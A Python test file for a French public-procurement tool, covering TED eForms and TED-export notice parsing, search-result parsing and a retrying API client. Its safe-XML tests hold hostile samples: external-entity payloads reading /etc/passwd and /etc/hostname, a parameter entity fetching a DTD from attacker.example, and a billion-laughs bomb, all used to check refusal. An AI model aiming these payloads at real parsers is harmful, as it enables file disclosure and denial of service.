"""TED source: eForms and TED-export XML notices, safe XML, the search API client and its results.

Real data: the six French notices of shared/data/ted (TED-export XML and the same converted to
eForms), the official eForms SDK examples, and search API answers rebuilt from those notices
(tests/fixtures/ted/README.md).
"""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path
from zoneinfo import ZoneInfo

import httpx
import pytest
import respx

from tenders.model import NoticeKind, Reserved
from tenders.ted import TedAPIError, TedParseError
from tenders.ted import client as ted_client
from tenders.ted.client import RETRY, fetch_notice_xml, search_since
from tenders.ted.eforms import parse_eforms
from tenders.ted.export import parse_ted_export
from tenders.ted.notice import parse_notice
from tenders.ted.search import (
    SEARCH_FIELDS,
    parse_search_page,
    parse_search_result,
    parse_search_results,
)
from tenders.ted_ref import normalise_ted_ref
from tenders.xmlsafe import UnsafeXMLError, XMLError, parse_xml_bytes

FIXTURES = Path(__file__).parent / "fixtures" / "ted"
API = "https://ted.test/v3/notices/search"
PARIS = ZoneInfo("Europe/Paris")
CET = timezone(timedelta(hours=1))
CEST = timezone(timedelta(hours=2))

REAL_NOTICES = [
    "18-412273-001-EXP.xml",
    "19-090974-001-EXP.xml",
    "19-318420-001-EXP.xml",
    "20-179994-001-EXP.xml",
    "20-271232-001-EXP.xml",
    "21-149886-001-EXP.xml",
]
SDK_NOTICES = [
    "can_81_FRA.xml",
    "change-cn_24_void.xml",
    "cn-social_24.xml",
    "cn_24_FRA_comments.xml",
    "cn_24_maximal.xml",
    "cn_24_minimal.xml",
    "cn_81_FRA.xml",
]


def read(shared_data: Path, *parts: str) -> bytes:
    return shared_data.joinpath("ted", *parts).read_bytes()


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


# --------------------------------------------------------------------------------------------
# Safe XML
# --------------------------------------------------------------------------------------------

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<ContractNotice xmlns="urn:oasis:names:specification:ubl:schema:xsd:ContractNotice-2">&e;</ContractNotice>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<TED_EXPORT>&lol9;</TED_EXPORT>
"""


def test_external_entity_is_refused_not_expanded():
    with pytest.raises(UnsafeXMLError, match="external entity 'e'"):
        parse_xml_bytes(EXTERNAL_ENTITY)
    with pytest.raises(UnsafeXMLError):
        parse_notice(EXTERNAL_ENTITY)


def test_entity_bomb_is_refused_not_expanded():
    with pytest.raises(UnsafeXMLError, match="entity bomb"):
        parse_xml_bytes(BILLION_LAUGHS)
    with pytest.raises(UnsafeXMLError):
        parse_ted_export(BILLION_LAUGHS)


def test_parameter_entity_is_refused():
    data = b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><x/>'
    with pytest.raises(UnsafeXMLError, match="'p'"):
        parse_xml_bytes(data)


def test_real_notice_carrying_an_entity_is_refused(shared_data):
    data = read(shared_data, "eforms", "19-090974-001-EXP.xml")
    head, _, rest = data.partition(b"?>")
    poisoned = head + b'?>\n<!DOCTYPE ContractNotice [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    poisoned += rest.replace(b"EPS Paul Guiraud", b"&x;", 1)
    with pytest.raises(UnsafeXMLError):
        parse_eforms(poisoned)


def test_malformed_and_empty_xml_are_plain_xml_errors():
    for data in (b"<ContractNotice><cbc:ID>", b"", b"   ", b"not xml at all"):
        with pytest.raises(XMLError) as caught:
            parse_xml_bytes(data)
        assert not isinstance(caught.value, UnsafeXMLError)


def test_a_doctype_without_entities_is_accepted():
    assert parse_xml_bytes(b"<!DOCTYPE x><x>ok</x>").text == "ok"


# --------------------------------------------------------------------------------------------
# eForms: every real and SDK notice parses
# --------------------------------------------------------------------------------------------


def test_the_listed_samples_are_all_the_samples(shared_data):
    assert sorted(p.name for p in (shared_data / "ted" / "eforms").glob("*.xml")) == REAL_NOTICES
    assert sorted(p.name for p in (shared_data / "ted" / "r209").glob("*.xml")) == REAL_NOTICES
    assert sorted(p.name for p in (shared_data / "ted" / "eforms-sdk").glob("*.xml")) == sorted(
        SDK_NOTICES
    )


@pytest.mark.parametrize("name", REAL_NOTICES)
def test_every_converted_french_notice_parses(shared_data, name):
    tender = parse_eforms(read(shared_data, "eforms", name))
    assert tender.source == "ted"
    assert tender.title and tender.buyer and tender.cpv_codes and tender.departements
    assert tender.url == f"https://ted.europa.eu/en/notice/-/detail/{tender.source_id}"
    assert all(len(code) == 8 and code.isdigit() for code in tender.all_cpv_codes())


@pytest.mark.parametrize("name", SDK_NOTICES)
def test_every_sdk_example_parses(shared_data, name):
    tender = parse_notice(read(shared_data, "eforms-sdk", name))
    assert tender.source == "ted" and tender.title and tender.buyer and tender.cpv_codes
    # Not published yet: no publication number, so the eForms notice id stands in.
    assert len(tender.source_id) == 36 and tender.url == ""


def test_eforms_call_for_tenders_real_values(shared_data):
    tender = parse_eforms(read(shared_data, "eforms", "19-090974-001-EXP.xml"))
    assert tender.source_id == "91489-2019"  # NoticePublicationID "091489-2019"
    assert tender.kind is NoticeKind.CALL  # cn-social
    assert tender.title == (
        "Marché de service pour l'élaboration, la fabrication et la livraison de repas destinés "
        "aux structures intra-hospitalières de l'EPS Erasme"
    )
    assert tender.buyer == "EPS Paul Guiraud"
    assert tender.description.startswith("La présente consultation porte sur l'élaboration")
    assert tender.cpv_codes == ["55321000"]
    assert tender.departements == ["92"]  # FR105 Hauts-de-Seine (not the buyer's FR107)
    assert tender.deadline == datetime(2019, 3, 22, 15, 0, tzinfo=CET)
    assert tender.published == date(2019, 2, 26)
    assert tender.procedure == "open"
    assert tender.lots == []  # LOT-0000 only: not divided
    assert tender.reserved is Reserved.DISABILITY  # res-ws + "entreprises adaptées… L. 5213-13"
    assert tender.social_clause is False
    assert tender.refers_to is None


def test_eforms_award_with_lots_real_values(shared_data):
    tender = parse_eforms(read(shared_data, "eforms", "18-412273-001-EXP.xml"))
    assert tender.source_id == "404080-2018"
    assert tender.kind is NoticeKind.AWARD  # can-standard
    assert tender.refers_to == "92667-2018"  # the contract notice 00092667-2018 it closes
    assert tender.buyer == "CAPL"
    assert tender.departements == ["06"]  # FRL03 Alpes-Maritimes
    assert tender.deadline is None
    assert tender.published == date(2018, 9, 15)
    assert [(lot.number, lot.title) for lot in tender.lots] == [
        ("1", "Infrastructures"),
        ("2", "Élargissement Ouvrage d'Art (OA) sur la Siagne"),
        ("3", "Espaces verts"),
        ("4", "Fontainerie"),
        ("5", "Auvent"),
    ]
    assert tender.lots[2].cpv_codes == ["45234116", "45112710"]
    assert tender.lots[4].description.startswith("Partie «Auvent» des travaux")
    assert tender.cpv_codes[0] == "45234116"
    assert {"45112710", "45213310", "42122130"} <= set(tender.cpv_codes)


def test_eforms_other_real_notices(shared_data):
    niort = parse_eforms(read(shared_data, "eforms", "19-318420-001-EXP.xml"))
    assert (niort.source_id, niort.buyer, niort.kind) == (
        "315003-2019",
        "Mairie de Niort",
        NoticeKind.AWARD,
    )
    assert niort.estimated_value == 6_500_000
    assert niort.cpv_codes == ["79950000", "92610000"]
    assert niort.departements == ["79"]  # FRI33 Deux-Sèvres
    assert niort.refers_to == "511495-2018"

    contest = parse_eforms(read(shared_data, "eforms", "20-179994-001-EXP.xml"))
    assert contest.kind is NoticeKind.CALL  # cn-desg, a design contest
    assert contest.buyer == "Communauté de Communes de la Vallée de la Doller et du Soultzbach"
    assert contest.deadline == datetime(2020, 6, 5, 12, 0, tzinfo=CET)
    assert contest.procedure == "restricted"
    assert len(contest.departements) == 101  # place of performance "anyw": anywhere
    # "cohérence de son insertion dans le site" is architecture, not a social clause.
    assert contest.social_clause is False
    assert contest.reserved is Reserved.NONE  # reserved-execution "yes" = architects only

    sncf = parse_eforms(read(shared_data, "eforms", "20-271232-001-EXP.xml"))
    assert sncf.kind is NoticeKind.OTHER  # qu-sy, a qualification system
    assert sncf.buyer == "SNCF"  # the first of the two contracting parties
    assert len(sncf.departements) == 101  # "Toute la France."
    assert sncf.cpv_codes == ["60112000", "60100000"]

    veat = parse_eforms(read(shared_data, "eforms", "21-149886-001-EXP.xml"))
    assert veat.kind is NoticeKind.OTHER  # veat: ex-ante transparency
    assert (veat.buyer, veat.departements, veat.procedure) == (
        "GHR Mulhouse Sud Alsace",
        ["68"],
        "neg-wo-call",
    )


def test_eforms_sdk_french_contract_notice(shared_data):
    tender = parse_eforms(read(shared_data, "eforms-sdk", "cn_24_FRA_comments.xml"))
    assert tender.source_id == "da4d46e9-490b-41ff-a2ae-8166d356a619"
    assert tender.buyer == "Rouen Habitat"
    assert tender.title == (
        "Service d'entretien de remise en état et de nettoyage des espaces verts"
    )
    assert tender.departements == ["76"]  # FRD22 Seine-Maritime
    assert tender.deadline == datetime(2019, 6, 24, 16, 0, tzinfo=UTC)  # "Z" offsets
    assert [(lot.number, lot.title, lot.cpv_codes) for lot in tender.lots] == [
        ("1", "Agence centre", ["77310000"]),
        ("2", "Agence Hauts de Rouen", ["77310000"]),
    ]


def test_eforms_maximal_notice_values_lots_and_reservation(shared_data):
    tender = parse_eforms(read(shared_data, "eforms-sdk", "cn_24_maximal.xml"))
    assert tender.estimated_value == 9_999_999.99
    assert [lot.number for lot in tender.lots] == ["1", "2"]  # the group GLO-0001 is no lot
    assert tender.lots[0].estimated_value == 9_999_999.99
    # Only a deadline for requests to participate (negotiated procedure): that one.
    assert tender.deadline == datetime(2023, 5, 22, 20, 59, 32, tzinfo=CET)
    assert tender.reserved is Reserved.NONE  # res-pub-ser is not an ESS reservation
    assert tender.social_clause is False  # social objective acc-all (accessibility) only


def test_change_notice_that_cancels(shared_data):
    original = parse_eforms(read(shared_data, "eforms-sdk", "cn_24_minimal.xml"))
    change = parse_eforms(read(shared_data, "eforms-sdk", "change-cn_24_void.xml"))
    assert change.kind is NoticeKind.CANCELLATION  # ReasonCode "cancel"
    assert change.refers_to == original.source_id == "f42be27e-09cf-4f0e-a745-63ec689631e6"


def test_change_notice_that_corrects_is_a_rectification(shared_data):
    data = read(shared_data, "eforms-sdk", "change-cn_24_void.xml")
    data = data.replace(
        b'"change-corrig-justification">cancel<', b'"change-corrig-justification">cor-buy<'
    )
    change = parse_eforms(data)
    assert change.kind is NoticeKind.RECTIFICATION
    assert change.refers_to == "f42be27e-09cf-4f0e-a745-63ec689631e6"
    intent = parse_eforms(data.replace(b">cor-buy<", b">cancel-intent<"))
    assert intent.kind is NoticeKind.CANCELLATION


def test_reservation_follows_the_words_of_the_notice(shared_data):
    data = read(shared_data, "eforms", "19-090974-001-EXP.xml")
    start = data.index(b"Conform\xc3\xa9ment \xc3\xa0 l'article 36-i")
    end = data.index(b"</cbc:Description>", start)
    siae = (
        "Marché réservé aux structures d'insertion par l'activité économique "
        "(article L2113-13 du code de la commande publique)."
    ).encode()
    assert parse_eforms(data[:start] + siae + data[end:]).reserved is Reserved.SIAE
    neutral = "Marché réservé (voir le règlement de la consultation).".encode()
    assert parse_eforms(data[:start] + neutral + data[end:]).reserved is Reserved.BOTH
    without_code = data.replace(b">res-ws<", b">none<")
    # No res-ws code, but the text says the contract is reserved to EA/ESAT.
    assert parse_eforms(without_code).reserved is Reserved.DISABILITY
    start = without_code.index(b"Conform\xc3\xa9ment \xc3\xa0 l'article 36-i")
    end = without_code.index(b"</cbc:Description>", start)
    no_reservation = without_code[:start] + b"Aucune condition." + without_code[end:]
    assert parse_eforms(no_reservation).reserved is Reserved.NONE


def test_social_clause_from_social_objective_or_words(shared_data):
    data = read(shared_data, "eforms-sdk", "cn_24_FRA_comments.xml")
    assert parse_eforms(data).social_clause is False
    lot_name = b'<cbc:Name languageID="FRA">Agence centre</cbc:Name>'
    opp = data.replace(
        lot_name,
        lot_name + b"<cac:ProcurementAdditionalType><cbc:ProcurementTypeCode "
        b'listName="social-objective">opp</cbc:ProcurementTypeCode></cac:ProcurementAdditionalType>',
        1,
    )
    assert opp != data
    assert parse_eforms(opp).social_clause is True
    words = data.replace(
        "La valeur technique participle pour 40 % …".encode(),
        "Le marché comporte une clause d'insertion : 5 % des heures travaillées.".encode(),
    )
    assert words != data
    assert parse_eforms(words).social_clause is True


def test_not_an_eforms_notice(shared_data):
    with pytest.raises(TedParseError, match="not an eForms notice"):
        parse_eforms(b"<Invoice xmlns='urn:oasis:names:specification:ubl:schema:xsd:Invoice-2'/>")
    with pytest.raises(TedParseError, match="not a TED-export notice"):
        parse_ted_export(read(shared_data, "eforms", "19-090974-001-EXP.xml"))
    with pytest.raises(TedParseError):
        parse_notice(b"<ANNONCE/>")


def test_eforms_notice_without_title_is_refused(shared_data):
    data = read(shared_data, "eforms-sdk", "cn_24_minimal.xml")
    untitled = data.replace(
        b'<cbc:Name languageID="ENG">Provision of IT Services', b'<cbc:Note languageID="ENG">x'
    )
    untitled = untitled.replace(b"and Others)</cbc:Name>", b"</cbc:Note>")
    with pytest.raises(TedParseError, match="no title"):
        parse_eforms(untitled)


# --------------------------------------------------------------------------------------------
# TED-export R2.0.9
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", REAL_NOTICES)
def test_ted_export_and_eforms_agree(shared_data, name):
    old = parse_notice(read(shared_data, "r209", name))
    new = parse_notice(read(shared_data, "eforms", name))
    assert (old.source_id, old.title, old.buyer, old.kind, old.published, old.refers_to) == (
        new.source_id,
        new.title,
        new.buyer,
        new.kind,
        new.published,
        new.refers_to,
    )
    assert set(old.cpv_codes) == set(new.cpv_codes)
    assert [(lot.number, lot.title) for lot in old.lots] == [
        (lot.number, lot.title) for lot in new.lots
    ]


def test_ted_export_real_values(shared_data):
    meals = parse_ted_export(read(shared_data, "r209", "19-090974-001-EXP.xml"))
    assert meals.source_id == "91489-2019"
    assert meals.deadline == datetime(2019, 3, 22, 15, 0, tzinfo=PARIS)  # no offset in TED XML
    assert meals.deadline.utcoffset() == timedelta(hours=1)
    assert meals.departements == ["92"]
    assert meals.reserved is Reserved.DISABILITY  # RESTRICTED_SHELTERED_WORKSHOP + EA/ESAT text
    assert meals.kind is NoticeKind.CALL  # F21, NOTICE TYPE="CONTRACT"

    works = parse_ted_export(read(shared_data, "r209", "18-412273-001-EXP.xml"))
    assert works.kind is NoticeKind.AWARD and works.refers_to == "92667-2018"
    assert works.lots[2].cpv_codes == ["45112710"]

    contest = parse_ted_export(read(shared_data, "r209", "20-179994-001-EXP.xml"))
    assert contest.deadline == datetime(2020, 6, 5, 12, 0, tzinfo=PARIS)
    assert contest.deadline.utcoffset() == timedelta(hours=2)  # summer time
    assert contest.departements == ["68"]  # no place of performance: the buyer's (FRF12)

    sncf = parse_ted_export(read(shared_data, "r209", "20-271232-001-EXP.xml"))
    assert len(sncf.departements) == 101  # PERFORMANCE_NUTS "FR": all of France

    niort = parse_ted_export(read(shared_data, "r209", "19-318420-001-EXP.xml"))
    assert niort.estimated_value == 6_500_000 and niort.procedure == "neg-w-call"


def test_ted_export_with_nuts_2013_codes(shared_data):
    # Older notices carry NUTS 2013 codes in the n2013 namespace: FR823 is Alpes-Maritimes.
    data = read(shared_data, "r209", "19-090974-001-EXP.xml")
    data = data.replace(b"ted/2016/nuts", b"ted/2013/nuts").replace(b"n2016", b"n2013")
    data = data.replace(b'n2013:NUTS CODE="FR105"', b'n2013:NUTS CODE="FR823"')
    data = data.replace(
        b'n2013:PERFORMANCE_NUTS CODE="FR105"', b'n2013:PERFORMANCE_NUTS CODE="FR823"'
    )
    assert parse_ted_export(data).departements == ["06"]


def test_publication_numbers_have_one_form():
    for raw in ("00091489-2019", "091489-2019", "91489-2019", "2019/S 040-091489", " 91489-2019 "):
        assert normalise_ted_ref(raw) == "91489-2019"
    assert normalise_ted_ref("00123456-2024") == "123456-2024"
    for raw in (None, "", "f252f386-55ac-4fa8-9be4-9f950b9904c8", "2019-040"):
        assert normalise_ted_ref(raw) is None


# --------------------------------------------------------------------------------------------
# Search API results
# --------------------------------------------------------------------------------------------


def test_search_pages_parse_with_real_values():
    first, skipped = parse_search_page(fixture("search_page1.json"))
    second, skipped2 = parse_search_page(fixture("search_page2.json"))
    assert skipped == skipped2 == []
    by_id = {t.source_id: t for t in first + second}
    assert list(by_id) == [
        "404080-2018",
        "91489-2019",
        "315003-2019",
        "176972-2020",
        "265664-2020",
        "147836-2021",
    ]
    meals = by_id["91489-2019"]
    assert meals.title.startswith("Marché de service pour l'élaboration")  # title-proc
    assert meals.buyer == "EPS Paul Guiraud"
    assert meals.cpv_codes == ["55321000"]
    assert meals.departements == ["92"]
    assert meals.deadline == datetime(2019, 3, 22, 15, 0, tzinfo=CET)
    assert meals.published == date(2019, 2, 26)
    assert meals.kind is NoticeKind.CALL and meals.procedure == "open"
    # The search summary has res-ws but not the text naming EA/ESAT: both families.
    assert meals.reserved is Reserved.BOTH
    assert meals.url == "https://ted.europa.eu/en/notice/-/detail/91489-2019"

    works = by_id["404080-2018"]
    assert works.kind is NoticeKind.AWARD and works.departements == ["06"]
    assert [(lot.number, lot.title) for lot in works.lots][:2] == [
        ("1", "Infrastructures"),
        ("2", "Élargissement Ouvrage d'Art (OA) sur la Siagne"),
    ]
    assert by_id["315003-2019"].estimated_value == 6_500_000
    assert by_id["176972-2020"].deadline == datetime(2020, 6, 5, 12, 0, tzinfo=CEST)
    assert by_id["265664-2020"].departements == []  # only the country, no subdivision
    assert by_id["147836-2021"].kind is NoticeKind.OTHER  # veat


def test_search_and_xml_give_the_same_tender_identity(shared_data):
    tenders, _ = parse_search_page(fixture("search_page1.json"))
    from_api = {t.source_id: t for t in tenders}["91489-2019"]
    from_xml = parse_notice(read(shared_data, "eforms", "19-090974-001-EXP.xml"))
    assert (from_api.source_id, from_api.buyer, from_api.deadline, from_api.cpv_codes) == (
        from_xml.source_id,
        from_xml.buyer,
        from_xml.deadline,
        from_xml.cpv_codes,
    )


def test_results_with_missing_fields_are_skipped_with_reasons():
    tenders, skipped = parse_search_page(fixture("search_missing_fields.json"))
    assert [t.source_id for t in tenders] == ["315003-2019"]
    assert skipped == [
        ("#0", "missing or malformed publication-number"),
        ("91489-2019", "missing title (title-proc and notice-title)"),
    ]


def test_odd_results_never_stop_the_batch():
    good = json.loads(fixture("search_page1.json"))["notices"][2]
    tenders, skipped = parse_search_results(
        ["not a dict", {"publication-number": 42}, {"publication-number": ["12-2024"]}, good]
    )
    assert [t.source_id for t in tenders] == ["315003-2019"]
    assert [ident for ident, _ in skipped] == ["#0", "42", "12-2024"]


def test_result_field_shapes_and_fallbacks():
    tender = parse_search_result(
        {
            "publication-number": ["00123456-2026"],
            "notice-title": {
                "deu": "Frankreich – Reinigung – Nettoyage",
                "fra": "France – Nettoyage",
            },
            "buyer-name": "Ville de Saint-Étienne",
            "classification-cpv": "90910000",
            "place-of-performance-subdiv-proc": "FRK25",
            "deadline-receipt-tender-date-lot": ["2026-12-01+01:00", "2026-11-30+01:00"],
            "deadline-receipt-tender-time-lot": ["12:00:00+01:00"],  # not aligned: dates only
            "estimated-value-proc": 150000,
            "estimated-value-cur-proc": ["EUR"],
            "notice-type": ["cn-standard"],
            "social-objective-lot": ["opp"],
        }
    )
    assert tender.source_id == "123456-2026"
    assert tender.title == "France – Nettoyage"  # no title-proc: TED's notice-title, in French
    assert tender.buyer == "Ville de Saint-Étienne"
    assert tender.departements == ["42"]
    assert tender.deadline == datetime(2026, 11, 30, 23, 59, 59, tzinfo=CET)
    assert tender.estimated_value == 150_000
    assert tender.social_clause is True
    swiss = parse_search_result(
        {
            "publication-number": "1-2026",
            "title-proc": {"eng": "x"},
            "estimated-value-proc": "9",
            "estimated-value-cur-proc": "CHF",
        }
    )
    assert swiss.estimated_value is None  # only euros are compared with capacities


def test_search_fields_are_the_ones_the_parser_reads():
    assert SEARCH_FIELDS[0] == "publication-number"
    assert {
        "title-proc",
        "buyer-name",
        "classification-cpv",
        "place-of-performance-subdiv-lot",
        "deadline-receipt-tender-date-lot",
        "deadline-receipt-tender-time-lot",
        "reserved-procurement-lot",
        "links",
    } <= set(SEARCH_FIELDS)


# --------------------------------------------------------------------------------------------
# Search API client (respx)
# --------------------------------------------------------------------------------------------


class Sleeps:
    """Records the waits instead of waiting."""

    def __init__(self):
        self.waits: list[float] = []

    async def __call__(self, seconds: float) -> None:
        self.waits.append(seconds)


async def collect(**kwargs) -> list[dict]:
    async with httpx.AsyncClient() as client:
        return [item async for item in search_since(client, API, date(2018, 9, 1), **kwargs)]


def page(name: str, status: int = 200, **headers) -> httpx.Response:
    return httpx.Response(status, content=fixture(name), headers=headers)


@respx.mock
async def test_pagination_until_total_count():
    route = respx.post(API).mock(side_effect=[page("search_page1.json"), page("search_page2.json")])
    items = await collect(page_size=3, retry=replace(RETRY, sleep=Sleeps()))
    assert [i["publication-number"] for i in items] == [
        "404080-2018",
        "91489-2019",
        "315003-2019",
        "176972-2020",
        "265664-2020",
        "147836-2021",
    ]
    assert route.call_count == 2  # totalNoticeCount 6 reached: no third request
    bodies = [json.loads(call.request.content) for call in route.calls]
    assert [b["page"] for b in bodies] == [1, 2]
    assert bodies[0] == {
        "query": "buyer-country IN (FRA) AND publication-date >= 20180901 "
        "SORT BY publication-date ASC",
        "fields": list(SEARCH_FIELDS),
        "limit": 3,
        "page": 1,
        "scope": "ALL",
        "paginationMode": "PAGE_NUMBER",
    }


@respx.mock
async def test_a_short_page_ends_the_search():
    route = respx.post(API).mock(side_effect=[page("search_page1.json")])
    items = await collect(page_size=250)
    assert len(items) == 3 and route.call_count == 1
    assert json.loads(route.calls[0].request.content)["limit"] == 250


@respx.mock
async def test_page_size_is_capped_at_250_and_an_empty_answer_yields_nothing():
    route = respx.post(API).mock(return_value=page("search_empty.json"))
    assert await collect(page_size=1000) == []
    assert json.loads(route.calls[0].request.content)["limit"] == 250


@respx.mock
async def test_429_waits_retry_after_then_succeeds():
    sleeps = Sleeps()
    route = respx.post(API).mock(
        side_effect=[
            httpx.Response(429, headers={"Retry-After": "7"}, json={"message": "Too many"}),
            page("search_page1.json"),
            page("search_page2.json"),
        ]
    )
    items = await collect(page_size=3, retry=replace(RETRY, sleep=sleeps))
    assert len(items) == 6 and route.call_count == 3
    assert sleeps.waits == [7.0]


@respx.mock
async def test_5xx_and_timeouts_are_retried_with_backoff():
    sleeps = Sleeps()
    respx.post(API).mock(
        side_effect=[
            httpx.Response(500, text="Internal Server Error"),
            httpx.ReadTimeout("read timed out"),
            httpx.Response(503, text="unavailable"),
            page("search_page1.json"),
        ]
    )
    items = await collect(page_size=250, retry=replace(RETRY, backoff=0.5, jitter=0, sleep=sleeps))
    assert len(items) == 3
    assert sleeps.waits == [0.5, 1.0, 2.0]


@respx.mock
async def test_a_500_that_lasts_gives_up_with_a_clear_error():
    sleeps = Sleeps()
    route = respx.post(API).mock(return_value=httpx.Response(500, text="boom"))
    with pytest.raises(TedAPIError, match=r"after 3 attempts \(HTTP 500\)"):
        await collect(retry=replace(RETRY, attempts=3, jitter=0, sleep=sleeps))
    assert route.call_count == 3 and sleeps.waits == [1.0, 2.0]


@respx.mock
async def test_a_refused_query_is_not_retried():
    route = respx.post(API).mock(
        return_value=httpx.Response(400, json={"message": "Syntax error in expert query"})
    )
    with pytest.raises(TedAPIError, match="HTTP 400.*Syntax error"):
        await collect(retry=replace(RETRY, sleep=Sleeps()))
    assert route.call_count == 1


@respx.mock
async def test_malformed_json_raises_after_the_good_pages():
    respx.post(API).mock(side_effect=[page("search_page1.json"), page("search_truncated.json.txt")])
    seen = []
    with pytest.raises(TedAPIError, match="malformed JSON"):
        async with httpx.AsyncClient() as client:
            async for item in search_since(client, API, date(2018, 9, 1), page_size=3):
                seen.append(item["publication-number"])
    assert seen == ["404080-2018", "91489-2019", "315003-2019"]


@respx.mock
async def test_a_json_answer_of_the_wrong_shape_is_an_error():
    respx.post(API).mock(return_value=httpx.Response(200, json={"notices": "none"}))
    with pytest.raises(TedAPIError, match="'notices' is not a list"):
        await collect()


@respx.mock
async def test_missing_fields_are_skipped_and_the_batch_goes_on():
    respx.post(API).mock(
        side_effect=[page("search_missing_fields.json"), page("search_page2.json")]
    )
    tenders, skipped = parse_search_results(await collect(page_size=3))
    assert [t.source_id for t in tenders] == [
        "315003-2019",
        "176972-2020",
        "265664-2020",
        "147836-2021",
    ]
    assert [ident for ident, _ in skipped] == ["#0", "91489-2019"]


@respx.mock
async def test_the_window_moves_on_by_date_past_the_page_limit(monkeypatch):
    # Page-number mode stops at 15,000 results per query; with a window of 6 the client must
    # restart from the last date seen and not yield the notices of that day twice.
    monkeypatch.setattr(ted_client, "PAGE_WINDOW", 6)
    notices = [
        json.loads(fixture(name))["notices"] for name in ("search_page1.json", "search_page2.json")
    ]
    everything = notices[0] + notices[1]
    days = ["2018-09-15"] + ["2019-02-26"] * 5  # the cut falls inside one day
    for item, day in zip(everything, days, strict=True):
        item["publication-date"] = f"{day}+01:00"
    extra = dict(everything[5], **{"publication-number": "999-2021"})
    everything.append(extra)

    def answer(request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content)
        since = body["query"].split(">= ")[1].split(" ")[0]
        matching = [n for n in everything if n["publication-date"][:10].replace("-", "") >= since]
        start = (body["page"] - 1) * body["limit"]
        chunk = matching[start : start + body["limit"]]
        return httpx.Response(200, json={"notices": chunk, "totalNoticeCount": len(matching)})

    route = respx.post(API).mock(side_effect=answer)
    items = await collect(page_size=3)
    assert [i["publication-number"] for i in items] == [n["publication-number"] for n in everything]
    queries = [json.loads(c.request.content)["query"] for c in route.calls]
    assert "publication-date >= 20190226" in queries[-1]


@respx.mock
async def test_fetch_notice_xml_then_parse(shared_data):
    item = json.loads(fixture("search_page1.json"))["notices"][1]
    xml = read(shared_data, "eforms", "19-090974-001-EXP.xml")
    route = respx.get("https://ted.europa.eu/en/notice/91489-2019/xml").mock(
        return_value=httpx.Response(200, content=xml)
    )
    async with httpx.AsyncClient() as client:
        tender = parse_notice(await fetch_notice_xml(client, item))
    assert route.called and tender.reserved is Reserved.DISABILITY
